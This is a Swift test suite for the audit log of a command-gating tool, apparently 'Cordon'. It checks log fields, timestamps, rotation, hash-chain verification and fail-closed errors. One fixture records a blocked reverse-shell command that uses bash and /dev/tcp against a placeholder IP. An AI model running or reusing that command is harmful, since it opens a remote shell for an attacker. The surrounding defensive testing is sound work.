import CordonBase
import CordonPolicy
import CordonTestSupport
import Glibc
import Testing

@testable import CordonAudit

@Suite("gate.log writing", .timeLimit(.minutes(10)))
struct GateLogTests {
    @Test("lines carry DESIGN's fields in order and read back as written")
    func fieldsInOrder() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let w = try GateLogWriter(directory: LogDirectory(path: dir + "/.cordon"))
        var r = sampleRecord(1, decision: "block", score: 92)
        r.rule = "reverse-shell"
        r.command = Array("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1".utf8)
        r.reasons = ["reverse shell via /dev/tcp", "second"]
        try w.append(r)
        let text = readText(dir + "/.cordon/gate.log")
        #expect(text.hasSuffix("\n"))
        let keys = text.split(separator: " ").compactMap { tok -> String? in
            guard let eq = tok.firstIndex(of: "="), tok.first?.isLetter == true else { return nil }
            return String(tok[..<eq])
        }
        #expect(keys == LogRecord.keys)
        #expect(text.hasPrefix("2026-11-18T"))  // 1_795_000_000_001 ms
        #expect(
            text.contains(
                " decision=block score=92 level=safe agent=ci-agent session=s-1 run=r-1 action=a-1 source=gate pid=4242 rule=reverse-shell cmd=\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\" reasons=\"reverse shell via /dev/tcp; second\" chain="
            ))
        var back = try LogRecord.parse(Array(text.utf8).dropLast())
        #expect(back.chain.count == 16)
        back.chain = ""
        #expect(back == r)
    }

    @Test("timestamps are UTC with milliseconds and parse back")
    func timestamps() {
        let t = Timestamp(milliseconds: 1_795_000_000_123)
        #expect(t.description == "2026-11-18T11:06:40.123Z")
        #expect(Timestamp(rfc3339: t.description) == t)
        #expect(Timestamp(rfc3339: "2026-11-18T12:06:40.123+01:00") == t)
        #expect(Timestamp(rfc3339: "2026-11-18") == Timestamp(milliseconds: 1_794_960_000_000))
        #expect(Timestamp(rfc3339: "yesterday") == nil)
        #expect(Timestamp(milliseconds: -1).description == "1969-12-31T23:59:59.999Z")
    }

    @Test("a command over 4 KiB is cut with a marker naming its length and SHA-256")
    func longCommand() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let w = try GateLogWriter(directory: LogDirectory(path: dir))
        var r = sampleRecord(1)
        // 'é' is two bytes: the cut must not split it.
        r.command = Array(String(repeating: "é", count: 5000).utf8)
        try w.append(r)
        let line = Array(readText(dir + "/gate.log").utf8).dropLast()
        let back = try LogRecord.parse(line)
        let cut = try #require(back.cut)
        #expect(cut.bytes == 10_000)
        #expect(cut.sha256 == SHA256.hex(r.command))
        #expect(back.command.count < 4096 + 100)
        #expect(String(validating: back.command, as: UTF8.self) != nil)
        #expect(try LogVerifier.verify(files: [dir + "/gate.log"]).ok)
        #expect(sampleRecord(2).cut == nil)
        // Reasons quoting a huge command are bounded too.
        var long = sampleRecord(3)
        long.reasons = [String(repeating: "y", count: 20_000)]
        #expect(long.body().count < 2 * 4096 + 400)
    }

    @Test("the directory is created with mode 0700, traces/ inside it")
    func directoryMode() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        _ = try GateLogWriter(directory: LogDirectory(path: dir + "/a/b/.cordon"))
        var st = stat()
        #expect(stat(dir + "/a/b/.cordon", &st) == 0)
        #expect(st.st_mode & 0o777 == 0o700)
        #expect(FileIO.isDirectory(dir + "/a/b/.cordon/traces"))
    }

    @Test("--log-dir wins over CORDON_HOME, which wins over .cordon in the cwd")
    func location() {
        #expect(LogDirectory.resolve(option: "/x", environment: ["CORDON_HOME": "/h"], cwd: "/w").path == "/x")
        #expect(LogDirectory.resolve(option: nil, environment: ["CORDON_HOME": "/h"], cwd: "/w").path == "/h")
        #expect(LogDirectory.resolve(option: nil, environment: [:], cwd: "/w").path == "/w/.cordon")
    }

    @Test("the chain continues across rotation and the rotated set verifies")
    func rotation() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let d = LogDirectory(path: dir)
        let w = try GateLogWriter(directory: d, maxSize: 4096, keep: 3)
        var chains: [String] = []
        for i in 0..<200 { chains.append(try w.append(sampleRecord(i))) }
        let files = d.logFiles()
        #expect(files == [d.rotated(3), d.rotated(2), d.rotated(1), d.gateLog])
        for f in files {
            var st = stat()
            stat(f, &st)
            #expect(st.st_size <= 4096)
        }
        // The oldest kept file continues a chain whose start was rotated away: noted, not failed.
        let report = try LogVerifier.verify(files: files)
        #expect(report.ok, "\(String(describing: report.problem))")
        #expect(report.notes.count == 1)
        // The newest file's first line continues from gate.log.1's last line.
        let first = try LogRecord.parse(Array(readText(d.gateLog).utf8).split(separator: 0x0a)[0])
        let lastOld = Array(readText(d.rotated(1)).utf8).split(separator: 0x0a).last.map { Array($0) } ?? []
        let lastOldRecord = try LogRecord.parse(lastOld[...])
        #expect(first.chain == Chain.next(previous: lastOldRecord.chain, body: first.body()))
        // A writer that starts fresh on a rotated directory picks the chain up from the files.
        let w2 = try GateLogWriter(directory: d, maxSize: 4096, keep: 3)
        try w2.append(sampleRecord(999))
        #expect(try LogVerifier.verify(files: d.logFiles()).ok)
    }

    @Test("lowering log.keep removes the files beyond it at the next rotation")
    func keepShrinks() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let d = LogDirectory(path: dir)
        let big = try GateLogWriter(directory: d, maxSize: 4096, keep: 5)
        for i in 0..<200 { try big.append(sampleRecord(i)) }
        #expect(d.logFiles().count == 6)
        let small = try GateLogWriter(directory: d, maxSize: 4096, keep: 2)
        for i in 0..<40 { try small.append(sampleRecord(1000 + i)) }
        #expect(d.logFiles() == [d.rotated(2), d.rotated(1), d.gateLog])
        #expect(try LogVerifier.verify(files: d.logFiles()).ok)
    }

    @Test("a second writer in the same process continues the other's chain")
    func twoWriters() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let d = LogDirectory(path: dir)
        let a = try GateLogWriter(directory: d)
        let b = try GateLogWriter(directory: d)
        for i in 0..<10 {
            try a.append(sampleRecord(i))
            try b.append(sampleRecord(100 + i))
        }
        let r = try LogVerifier.verify(files: [d.gateLog])
        #expect(r.ok && r.lines == 20)
    }
}

@Suite("gate.log fails closed", .timeLimit(.minutes(10)))
struct GateLogFailureTests {
    @Test("a log directory under a regular file is an error naming it")
    func unwritableDirectory() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        writeText(dir + "/file", "x")
        let e = try #require(throws: AuditError.self) {
            try GateLogWriter(directory: LogDirectory(path: dir + "/file/.cordon"))
        }
        #expect(e.kind == .write)
        #expect(e.message.contains(dir + "/file/.cordon"))
        #expect(e.message.contains("not a directory"))
    }

    @Test("gate.log that cannot be opened for writing is an error naming it")
    func unopenableLog() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        mkdir(dir + "/gate.log", 0o700)
        let w = try GateLogWriter(directory: LogDirectory(path: dir))
        let e = try #require(throws: AuditError.self) { try w.append(sampleRecord(1)) }
        #expect(e.message == "open \(dir)/gate.log: Is a directory")
    }

    @Test("a write the kernel refuses half-way is an error naming the file, and no partial line is left")
    func fullDisk() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let w = try GateLogWriter(directory: LogDirectory(path: dir))
        try w.append(sampleRecord(1))
        let size = readText(dir + "/gate.log").utf8.count
        // RLIMIT_FSIZE makes write(2) stop at the limit (short write, then EFBIG), as a full
        // file system stops with ENOSPC; SIGXFSZ is ignored so the error comes back to cordon.
        let limit = size + 600  // one ~420-byte line fits, the second is cut
        let r = runProcess([
            "/bin/sh", "-c", "trap '' XFSZ; exec prlimit --fsize=\(limit) \"$0\" \"$@\"", cordonBinary(), "log",
            "append",
            "--log-dir", dir, "--decision", "allow", "--cmd", String(repeating: "x", count: 200), "--repeat", "5",
        ])
        #expect(r.status == 125)
        #expect(r.stderr.contains("cordon: error: append to \(dir)/gate.log: File too large"))
        let report = try LogVerifier.verify(files: [dir + "/gate.log"])
        #expect(report.ok, "the half-written line was taken back: \(String(describing: report.problem))")
        #expect(report.lines == 2)
    }

    @Test("a symlinked gate.log is refused rather than followed")
    func symlinkRefused() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        writeText(dir + "/victim", "precious\n")
        symlink(dir + "/victim", dir + "/gate.log")
        let w = try GateLogWriter(directory: LogDirectory(path: dir))
        let e = try #require(throws: AuditError.self) { try w.append(sampleRecord(1)) }
        #expect(
            e.message == "open \(dir)/gate.log: is a symbolic link (refused: the log is written only to regular files)")
        #expect(readText(dir + "/victim") == "precious\n")
    }

    @Test("a lock held past the timeout is an error naming the lock file")
    func lockTimeout() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let w = try GateLogWriter(directory: LogDirectory(path: dir), lockTimeout: 0.2)
        // flock locks belong to the open file description: a second open conflicts even here.
        let fd = open(dir + "/gate.log.lock", O_RDWR)
        #expect(flock(fd, LOCK_EX) == 0)
        defer { close(fd) }
        let start = Timestamp.monotonicSeconds()
        let e = try #require(throws: AuditError.self) { try w.append(sampleRecord(1)) }
        let waited = Timestamp.monotonicSeconds() - start
        #expect(e.message.contains("lock \(dir)/gate.log.lock: held by another process"))
        #expect(waited >= 0.2 && waited < 2)
        flock(fd, LOCK_UN)
        try w.append(sampleRecord(2))
    }

    @Test("a torn last line stops appends with a pointer to verify")
    func tornTail() throws {
        let dir = makeTempDir()
        defer { removeTree(dir) }
        let w = try GateLogWriter(directory: LogDirectory(path: dir))
        try w.append(sampleRecord(1))
        let fd = open(dir + "/gate.log", O_WRONLY | O_APPEND)
        _ = Array("2026-11-18T08:26:40.000Z decision=al".utf8).withUnsafeBytes { FileIO.writeAll(fd, $0) }
        close(fd)
        let e = try #require(throws: AuditError.self) { try w.append(sampleRecord(2)) }
        #expect(e.message.contains("the last line is incomplete"))
        #expect(e.message.contains("cordon log verify"))
    }
}
